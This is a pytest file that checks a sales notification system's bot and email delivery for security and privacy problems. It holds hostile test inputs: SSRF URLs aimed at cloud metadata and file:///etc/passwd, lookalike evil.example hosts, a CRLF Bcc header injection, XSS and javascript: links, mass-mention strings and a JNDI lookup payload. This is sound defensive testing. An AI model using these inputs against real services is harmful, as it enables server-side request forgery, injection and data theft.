"""Each vendor's way, seen from the vendor's side; and what no message may do."""

import base64
import email
import json
import logging
import socket
from email.policy import default as mail_policy

import pytest

from salesops.notices import channels, kinds, wording
from salesops.notices.actions import Telling, tell
from salesops.notices.channels import transport
from salesops.notices.models import ChannelAccount, Delivery
from salesops.notices.sending import send

from .conftest import MINUTE, NOON, bot, mail, telling
from .sinks import OK, dingtalk_checks, feishu_checks

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(("kind", "checks"), [("dingtalk", dingtalk_checks), ("feishu", feishu_checks)])
def test_signatures_are_what_the_vendor_checks(people, sink, kind, checks):
    bot(sink, person=people.wang, kind=kind, secret="SEC+/=密")
    sink.script = [checks("SEC+/=密")]
    tell([telling(people.wang)], at=NOON)
    send(at=NOON)
    assert Delivery.objects.get().state == "sent"


@pytest.mark.parametrize(("kind", "checks"), [("dingtalk", dingtalk_checks), ("feishu", feishu_checks)])
@pytest.mark.usefixtures("english")
def test_a_wrong_secret_is_refused_and_explained(people, sink, kind, checks):
    account = bot(sink, person=people.wang, kind=kind, secret="wrong")
    sink.script = [checks("right")]
    tell([telling(people.wang)], at=NOON)
    send(at=NOON)
    account.refresh_from_db()
    assert account.broken_at == NOON
    assert "sign" in str(channels.explain(kind, account.answer))


def test_a_bot_without_a_secret_sends_no_signature(people, sink):
    bot(sink, person=people.wang, kind="dingtalk")
    tell([telling(people.wang)], at=NOON)
    send(at=NOON)
    assert sink.requests[0]["query"] == {"key": "1"}


@pytest.mark.usefixtures("english")
def test_every_answer_has_plain_words():
    for kind in ChannelAccount.Kind.values:
        for answer in ("0", "timeout", "429", "502", "403", "not_json", "424242 what"):
            assert str(channels.explain(kind, answer))
    assert str(channels.explain("dingtalk", "130101 send too fast")).startswith("More than 20")
    assert channels.explain("wecom", "") == ""


@pytest.mark.parametrize(
    ("url", "addresses", "code"),
    [
        ("https://qyapi.weixin.qq.com/send", ["203.205.254.1"], None),
        ("http://qyapi.weixin.qq.com/send", ["203.205.254.1"], "host"),
        ("https://qyapi.weixin.qq.com:8443/send", ["203.205.254.1"], "host"),
        ("https://qyapi.weixin.qq.com@evil.example/send", ["8.8.8.8"], "host"),
        ("https://user:pass@qyapi.weixin.qq.com/send", ["203.205.254.1"], "host"),
        ("https://qyapi.weixin.qq.com.evil.example/send", ["8.8.8.8"], "host"),
        ("https://127.0.0.1/send", ["127.0.0.1"], "host"),
        ("https://169.254.169.254/latest/meta-data", ["169.254.169.254"], "host"),
        ("https://qyapi.weixin.qq.com:x/send", ["8.8.8.8"], "host"),
        ("file:///etc/passwd", ["8.8.8.8"], "host"),
        ("", [], "host"),
        ("https://qyapi.weixin.qq.com/send", ["127.0.0.1"], "private"),
        ("https://qyapi.weixin.qq.com/send", ["203.205.254.1", "10.0.0.1"], "private"),
        ("https://qyapi.weixin.qq.com/send", ["169.254.169.254"], "private"),
        ("https://qyapi.weixin.qq.com/send", ["::1"], "private"),
        ("https://qyapi.weixin.qq.com/send", ["::ffff:127.0.0.1"], "private"),
        ("https://qyapi.weixin.qq.com/send", ["100.64.0.1"], "private"),
        ("http://10.0.0.5:8080/relay", ["10.0.0.5"], None),
        ("http://10.0.0.5:8081/relay", ["10.0.0.5"], "host"),
        ("https://10.0.0.5:8080/relay", ["10.0.0.5"], "host"),
    ],
)
def test_only_listed_public_hosts_are_called(settings, monkeypatch, url, addresses, code):
    settings.BOT_HOSTS = ["qyapi.weixin.qq.com", "http://10.0.0.5:8080"]
    monkeypatch.setattr(socket, "getaddrinfo", lambda *args, **more: [(0, 0, 0, "", (it, 0)) for it in addresses])
    if code is None:
        assert transport.check(url) == addresses[0]
    else:
        with pytest.raises(transport.Refused) as refused:
            transport.check(url)
        assert refused.value.code == code


def test_a_name_that_changes_after_the_check_still_leads_to_the_checked_address(sink, settings, monkeypatch):
    port = sink.server_address[1]
    settings.BOT_HOSTS = [f"http://bot.example:{port}"]
    real, asked = socket.getaddrinfo, []

    def rebinding(host, *args, **more):
        if host != "bot.example":
            return real(host, *args, **more)
        asked.append(host)
        assert len(asked) == 1, "the name is looked up once"
        return real("127.0.0.1", *args, **more)

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    answer = transport.post(f"http://bot.example:{port}/send", {}, code_of=lambda body: (body["code"], ""), codes={})
    assert answer.outcome == "ok"
    assert sink.requests[0]["headers"]["Host"] == f"bot.example:{port}"


# What people may type into a company's name.
PAYLOADS = [
    "<script>alert(1)</script>",
    "[点这里](https://evil.example/x)",
    "![x](https://evil.example/pixel.png)",
    "https://evil.example/login",
    "www.evil.example",
    "evil.com",
    "<at id=all></at>",
    '<at user_id="all">所有人</at>',
    "<@all>",
    "@all",
    "@所有人",
    "@everyone",
    "&lt;at id=all&gt;",
    "&#64;all",
    "**粗体** _斜体_ `code` # 标题\n# 标题",
    "a\r\nBcc: everybody@evil.example",
    "‮evil‬",
    '<font color="warning">x</font>',
    "<https://evil.example>",
    "${jndi:ldap://evil.example/a}",
]


def send_each(people, sink, texts):
    """Sends one message per text, and yields each text with what arrived."""
    for number, text in enumerate(texts):
        at = NOON + number * MINUTE
        tell([telling(people.wang, f"k{number}", company=text, urgent=True)], at=at)
        send(at=at)
        yield text, sink.requests[number]["json"]


@pytest.mark.parametrize("kind", ["wecom", "dingtalk", "feishu"])
def test_nothing_typed_into_a_name_acts_in_a_bots_message(people, sink, kind):
    bot(sink, person=people.wang, kind=kind)
    for payload, body in send_each(people, sink, PAYLOADS):
        text = json.dumps(body, ensure_ascii=False)
        assert "/leads/12/" in text
        own = text.replace("http://127.0.0.1:8000/leads/12/", "")
        for live in ("://", "evil.", "@", "<", ">", "](h", "![", "`", "_斜体_", "\\r", "\u202e"):
            assert live not in own, (payload, live)
        if kind == "dingtalk":
            assert body["at"] == {"isAtAll": False}
        if kind == "feishu":
            assert '"tag": "at"' not in text
            assert '"tag": "markdown"' not in text


def test_nothing_typed_into_a_name_acts_in_a_mail(people, mails):
    mail(people.wang)
    for number, payload in enumerate(PAYLOADS):
        at = NOON + number * MINUTE
        tell([telling(people.wang, f"k{number}", company=payload, urgent=True)], at=at)
        send(at=at)
        message = email.message_from_string(mails.mails[number], policy=mail_policy)
        assert message.get_content_type() == "text/plain"
        assert message["Bcc"] is None
        assert message["To"] == "wang@example.com"
        own = message.get_content().replace("http://127.0.0.1:8000/leads/12/", "")
        for live in ("://", "evil."):
            assert live not in own, payload


def test_a_mail_carries_the_same_id_when_it_is_tried_again(people, mails):
    mail(people.wang)
    tell([telling(people.wang)], at=NOON)
    mails.refuse = {"DATA": "452 disk full"}
    ids = []
    keep = mails.handle_DATA

    async def handle(server, session, envelope):
        ids.append(email.message_from_bytes(envelope.content)["Message-ID"])
        return await keep(server, session, envelope)

    mails.handle_DATA = handle
    send(at=NOON)
    mails.refuse = {}
    send(at=NOON + 3 * MINUTE)
    assert len(ids) == 2
    assert ids[0] == ids[1]
    assert ids[0].startswith("<delivery.")


CANARIES = [
    "13800138000",
    "138-0013-8000",
    "138 0013 8000",
    "+86 138 0013 8000",
    "１３８００１３８０００",
    "021-55556666",
    "(021) 5555 6666",
    "400-820-1234",
    "+1 415 555 0100",
    "￥1,280,000",
    "¥ 500000",
    "128万元",
    "500000元",
    "3.5亿",
    "1,280,000.00",
    "RMB 88000",
    "五十万元",
    "99999.50",
]


@pytest.mark.parametrize("kind", ["wecom", "dingtalk", "feishu"])
def test_no_phone_number_and_no_amount_reaches_a_group_or_a_log(people, sink, caplog, kind):
    caplog.set_level(logging.DEBUG)
    bot(sink, team=people.teams["cell"], kind=kind)
    for number, canary in enumerate(CANARIES):
        sink.script = [(200, json.dumps({"errcode": 1, "errmsg": canary, "code": 1, "msg": canary}))]
        values = {"company": f"北京{canary}智能", "lead": canary}
        told = Telling(team_id=people.teams["cell"].pk, key=f"w{number}", kind="test", values=values, urgent=True)
        tell([told], at=NOON)
        ChannelAccount.objects.update(opened_until=None, failures=0, ready_at=NOON)
        send(at=NOON)
        assert "北京" in sink.texts[number]
        for text in (sink.texts[number], Delivery.objects.latest("pk").answer):
            assert letters(canary) not in letters(text), text
    logs = "".join(record.getMessage() for record in caplog.records if "django.db" not in record.name)
    for canary in CANARIES:
        assert canary not in logs


def letters(text):
    return "".join(filter(str.isalnum, text))


@pytest.mark.parametrize(
    "harmless",
    ["2026-11-18 15:10", "11月18日（周三）15:10", "第3组 12/15", "HT-20260012345", "三元食品", "48 小时", "100%"],
)
def test_the_guard_leaves_dates_counts_and_document_numbers_alone(harmless):
    assert wording.mask_private(harmless) == harmless


def test_the_address_of_a_bot_is_never_logged(people, sink, caplog):
    caplog.set_level(logging.DEBUG)
    bot(sink, person=people.wang, number="SECRETKEY")
    sink.script = ["reset", (500, ""), OK]
    tell([telling(people.wang, escalation=True)], at=NOON)
    for minute in range(10):
        send(at=NOON + minute * MINUTE)
    assert len(sink.requests) == 3
    assert "SECRETKEY" not in caplog.text
    assert "SECRETKEY" not in "".join(Delivery.objects.values_list("answer", flat=True))


def test_addresses_and_secrets_are_encrypted_at_rest(people):
    from django.db import connection

    bot(person=people.wang, number="SECRETKEY", secret="SEC123")
    with connection.cursor() as cursor:
        cursor.execute("SELECT url, secret, url_index FROM notices_channelaccount")
        stored = " ".join(cursor.fetchone())
    assert "SECRETKEY" not in stored
    assert "SEC123" not in stored
    assert base64.b64encode(b"SEC123").decode() not in stored


def test_links_lead_only_to_own_pages(people, sink):
    bot(sink, person=people.wang)
    for number, url in enumerate(["//evil.example/x", "https://evil.example/", "javascript:alert(1)", ""]):
        told = Telling(person_id=people.wang.pk, key=f"k{number}", kind="test", url=url)
        tell([told], at=NOON)
    send(at=NOON)
    assert "evil" not in sink.texts[0]
    assert "javascript" not in sink.texts[0]


def test_a_kind_turns_codes_into_words_of_the_readers_language(people):
    kind = kinds.Kind(key="k", title="%(rule)s: %(missing)s", words=lambda values: {"rule": f"<{values['rule']}>"})
    wording_of = {"language": "en", "zone": NOON.tzinfo, "clean": wording.inert}
    kinds._kinds["k"] = kind
    try:
        assert wording.words("k", {"rule": "lead.accept"}, **wording_of).title == "＜lead．accept＞: —"
    finally:
        del kinds._kinds["k"]
